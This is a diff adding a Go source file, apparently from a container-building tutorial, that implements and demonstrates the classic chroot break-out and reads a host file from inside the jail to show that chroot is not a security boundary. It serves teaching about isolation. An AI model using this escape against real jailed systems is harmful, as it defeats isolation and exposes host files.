@@ -1,0 +1,211 @@
+package chroot
+
+import (
+	"bytes"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+
+	"golang.org/x/sys/unix"
+)
+
+// The classic chroot break-out, by a root process inside the jail.
+//
+// chroot(2) changes only the directory where absolute path lookups start. It
+// does not move the working directory, and ".." stops only at the process's
+// own root. So a root process inside a jail can:
+//
+//  1. keep a handle on a directory: open(".");
+//  2. chroot into a subdirectory: now the handle points above the new root;
+//  3. fchdir(handle): the working directory is outside the root, where ".."
+//     is never stopped by it;
+//  4. chdir("..") until "." and ".." are the same directory: the real root;
+//  5. chroot("."): "/" is the host's root again.
+//
+// This is why chroot is not a security boundary: it needs CAP_SYS_CHROOT to
+// escape, but root inside a plain chroot has it. Chapter 2 uses pivot_root(2)
+// in a mount namespace, where the host's root is not reachable at all.
+
+// EscapeDir is the subdirectory the escape creates to chroot into.
+const EscapeDir = ".minibox-escape"
+
+// maxClimb bounds the walk up: no real path is this deep.
+const maxClimb = 4096
+
+// EscapeReport is what a break-out attempt did and found.
+type EscapeReport struct {
+	Steps []string // the syscalls made, in order, as a learner would write them
+	Root  FileID   // the directory that "/" is after the attempt
+}
+
+// FileID identifies a directory independently of the path used to reach it.
+type FileID struct {
+	Dev uint64
+	Ino uint64
+}
+
+// StatID returns the FileID of path.
+func StatID(path string) (FileID, error) {
+	var st unix.Stat_t
+	if err := unix.Stat(path, &st); err != nil {
+		return FileID{}, fmt.Errorf("stat %s: %w", path, err)
+	}
+	return FileID{Dev: uint64(st.Dev), Ino: st.Ino}, nil
+}
+
+// Escape tries to break the calling process out of its chroot, following the
+// five steps above. It changes the root and working directory of the whole
+// process, so call it only in a process made for it (see RunEscape).
+func Escape() (*EscapeReport, error) {
+	r := &EscapeReport{}
+	step := func(format string, args ...any) { r.Steps = append(r.Steps, fmt.Sprintf(format, args...)) }
+
+	if err := unix.Chdir("/"); err != nil {
+		return r, fmt.Errorf("chdir /: %w", err)
+	}
+	if err := unix.Mkdir(EscapeDir, 0o700); err != nil && !errors.Is(err, unix.EEXIST) {
+		return r, fmt.Errorf("mkdir %s: %w", EscapeDir, err)
+	}
+	step("mkdir(%q)", EscapeDir)
+	fd, err := unix.Open(".", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
+	if err != nil {
+		return r, fmt.Errorf("open .: %w", err)
+	}
+	defer unix.Close(fd)
+	step(`open(".") = %d          keep a handle on the jail's root`, fd)
+	if err := unix.Chroot(EscapeDir); err != nil {
+		return r, fmt.Errorf("chroot %s: %w", EscapeDir, err)
+	}
+	step("chroot(%q)  the root moves down; the handle is now above it", EscapeDir)
+	if err := unix.Fchdir(fd); err != nil {
+		return r, fmt.Errorf("fchdir: %w", err)
+	}
+	step("fchdir(%d)               stand outside the new root", fd)
+	climbed := 0
+	for ; climbed < maxClimb; climbed++ {
+		dot, err := StatID(".")
+		if err != nil {
+			return r, err
+		}
+		dotdot, err := StatID("..")
+		if err != nil {
+			return r, err
+		}
+		if dot == dotdot {
+			break
+		}
+		if err := unix.Chdir(".."); err != nil {
+			return r, fmt.Errorf("chdir ..: %w", err)
+		}
+	}
+	step(`chdir("..") x %d          until "." and ".." are the same directory`, climbed)
+	if err := unix.Chroot("."); err != nil {
+		return r, fmt.Errorf("chroot .: %w", err)
+	}
+	step(`chroot(".")              make it the root`)
+	if err := unix.Chdir("/"); err != nil {
+		return r, fmt.Errorf("chdir /: %w", err)
+	}
+	root, err := StatID("/")
+	if err != nil {
+		return r, err
+	}
+	r.Root = root
+	return r, nil
+}
+
+// EscapeResult is what RunEscape saw.
+type EscapeResult struct {
+	EscapeReport
+	Target      string // the host file the jailed process tried to read
+	SeenInJail  string // what reading Target in the jail gave (often an error)
+	SeenOutside string // what reading Target after the escape gave
+	Escaped     bool   // "/" after the escape is the host's root
+}
+
+const escapeEntry = "minibox-chroot-escape"
+
+func init() { Register(escapeEntry, escapeMain) }
+
+// RunEscape starts a root process jailed in root, has it read target, then
+// break out with Escape and read target again. The process is this binary,
+// re-executed (see reexec.go); the jail's own files do not change except for
+// the EscapeDir it creates, which RunEscape removes.
+func RunEscape(root, target string) (*EscapeResult, error) {
+	hostRoot, err := StatID("/")
+	if err != nil {
+		return nil, err
+	}
+	cmd := Self(escapeEntry, root, target)
+	var stdout, stderr bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	runErr := cmd.Run()
+	os.Remove(filepath.Join(root, EscapeDir))
+	var res EscapeResult
+	var msg childMessage
+	if err := json.Unmarshal(stdout.Bytes(), &msg); err != nil {
+		return nil, fmt.Errorf("escape process: %v: %s", runErr, bytes.TrimSpace(stderr.Bytes()))
+	}
+	if msg.Error != "" {
+		return nil, fmt.Errorf("escape process: %s", msg.Error)
+	}
+	res = msg.Result
+	res.Escaped = res.Root == hostRoot
+	return &res, nil
+}
+
+// childMessage carries the jailed process's result, or its error, back to
+// the parent as JSON on stdout: the learner sees "chroot: operation not
+// permitted", not "exit status 1".
+type childMessage struct {
+	Result EscapeResult `json:",omitempty"`
+	Error  string       `json:",omitempty"`
+}
+
+// escapeMain runs in the re-executed process: args are the jail and target.
+func escapeMain() {
+	res, err := escapeChild(os.Args[1:])
+	msg := childMessage{}
+	if err != nil {
+		msg.Error = err.Error()
+	} else {
+		msg.Result = *res
+	}
+	json.NewEncoder(os.Stdout).Encode(msg)
+	if err != nil {
+		os.Exit(1)
+	}
+	os.Exit(0)
+}
+
+func escapeChild(args []string) (*EscapeResult, error) {
+	if len(args) != 2 {
+		return nil, fmt.Errorf("usage: %s ROOT TARGET", escapeEntry)
+	}
+	root, target := args[0], args[1]
+	res := &EscapeResult{Target: target}
+	if err := unix.Chroot(root); err != nil {
+		return nil, fmt.Errorf("chroot %s: %w", root, err)
+	}
+	if err := unix.Chdir("/"); err != nil {
+		return nil, fmt.Errorf("chdir /: %w", err)
+	}
+	res.SeenInJail = readOrError(target)
+	rep, err := Escape()
+	if err != nil {
+		return nil, err
+	}
+	res.EscapeReport = *rep
+	res.SeenOutside = readOrError(target)
+	return res, nil
+}
+
+func readOrError(path string) string {
+	b, err := os.ReadFile(path)
+	if err != nil {
+		return err.Error()
+	}
+	return string(b)
+}
